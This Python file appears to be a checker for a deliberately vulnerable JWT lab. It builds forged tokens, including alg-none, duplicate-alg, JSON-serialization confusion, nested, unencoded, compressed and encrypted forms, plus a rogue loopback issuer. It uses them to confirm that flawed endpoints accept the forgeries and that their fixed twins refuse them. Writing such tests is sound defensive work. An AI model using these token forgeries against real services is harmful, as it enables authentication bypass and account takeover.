# SPDX-License-Identifier: Apache-2.0
"""For lab/check: writes a token in every form that a flaw accepts; it must open it, not its twin."""
import contextlib
import http.server
import json
import os
import threading
import zlib

import jwt
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from prove_tokens import b64, claims, public_jwk

NONE = b64(b'{"alg":"none"}')


def raw(member, payload, signature):
    header = json.dumps({"alg": "RS256", **member}, separators=(",", ":"))
    return "%s.%s.%s" % (b64(header.encode()), payload, signature)


def encrypted(target, text):
    """To the published RSA key."""
    jwk = json.loads(target.ask("GET", "/.well-known/jwks.json").body)["keys"][0]
    key, iv = AESGCM.generate_key(256), os.urandom(12)
    wrapped = jwt.PyJWK.from_dict(jwk).key.encrypt(
        key, padding.OAEP(padding.MGF1(hashes.SHA256()), hashes.SHA256(), None))
    header = b64(b'{"alg":"RSA-OAEP-256","enc":"A256GCM"}')
    sealed = AESGCM(key).encrypt(iv, text.encode(), header.encode())
    return ".".join((header, b64(wrapped), b64(iv), b64(sealed[:-16]), b64(sealed[-16:])))


def forged(target, good, mine):
    """Pairs of a case and a token with claims of ours that its flaw accepts."""
    header, payload, signature = good.split(".")
    text = json.dumps(mine, separators=(",", ":"))
    ours = b64(text.encode())
    unsigned = "%s.%s." % (NONE, ours)
    flattened = '"protected":"%s","payload":"%s","signature":"%s"}' % (header, payload, signature)
    yield "two-forms", '{"~~%s.%s.":"",%s' % (header, ours, flattened)
    yield "two-payloads", '{"payload":"%s",%s' % (ours, flattened)
    yield "no-signatures", '{"payload":"%s","signatures":[]}' % ours
    yield "outvoted", '{"payload":"%s","protected":"%s","header":{"alg":"none"},"signature":""}' % (
        ours, header)
    yield "two-algorithms", "%s.%s." % (b64(b'{"alg":"RS256","alg":"none"}'), ours)
    yield "nested", raw({"cty": "JWT"}, b64(unsigned.encode()), signature)
    yield "unencoded", raw({"b64": False}, text, signature)
    squeezed = zlib.compressobj(wbits=-15)
    yield "compressed", raw({"zip": "DEF"}, b64(squeezed.compress(text.encode()) +
                                               squeezed.flush()), signature)
    yield "encrypted", encrypted(target, unsigned)
    yield "encrypted-claims", encrypted(target, text)


@contextlib.contextmanager
def issuer_server(jwk):
    """An issuer of ours on loopback, with discovery."""
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.end_headers()
            self.wfile.write(json.dumps({"keys": [jwk], "jwks_uri": "http://%s/keys" % (
                self.headers["Host"])}).encode())

        def log_message(self, *ignored):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield "http://127.0.0.1:%d" % server.server_port
        server.shutdown()


def held(target, pattern, good, tokens):
    """Complaints about cases and their twins, which may believe the genuine token within another."""
    def ask(case, token):
        answer = target.ask("GET", pattern % case, [("Authorization", "Bearer " + token)])
        return answer.status, answer.body

    for case, token in tokens:
        usual, twin = ask(case, good), ask(case + "-fixed", good)
        if (usual[0], twin[0]) != (200, 200):
            yield "%s: a good token does not open it and its twin" % (pattern % case)
        status, body = ask(case, token)
        if status != 200 or body == usual[1]:
            yield "%s: the forged token does not open it" % (pattern % case)
        if (found := ask(case + "-fixed", token)) != twin and found[0] != 401:
            yield "%s: the forged token opens it" % (pattern % (case + "-fixed"))


def check_forms(target):
    """Complaints about jwtcases/forms.py and issuers.py."""
    good = target.login("alice", "/api/jwt/login/rs256/")["access"]
    own = rsa.generate_private_key(65537, 2048)
    with issuer_server(public_jwk(own)) as issuer:
        foreign = jwt.encode(claims(iss=issuer, sub="3"), own, "RS256")
        yield from held(target, "/forms/%s/ledger/", good,
                        [*forged(target, good, claims(sub="3")),
                         ("issuer", foreign), ("issuer-set", foreign)])


def check_node_forms(target):
    """Complaints about the readers of others/node_jwt.js."""
    good = target.login("alice", "/login")["id_token"]
    mine = {"iss": "node-lab", "aud": "node-api", "token_type": None, "sub": "bob"}
    own = rsa.generate_private_key(65537, 2048)
    tokens = dict(forged(target, good, claims(**mine)))
    with issuer_server(public_jwk(own)) as issuer:
        foreign = jwt.encode(claims(**dict(mine, iss=issuer)), own, "RS256")
        yield from held(target, "/%s/balance", good,
                        [("every", tokens["no-signatures"]), ("issuer", foreign)])
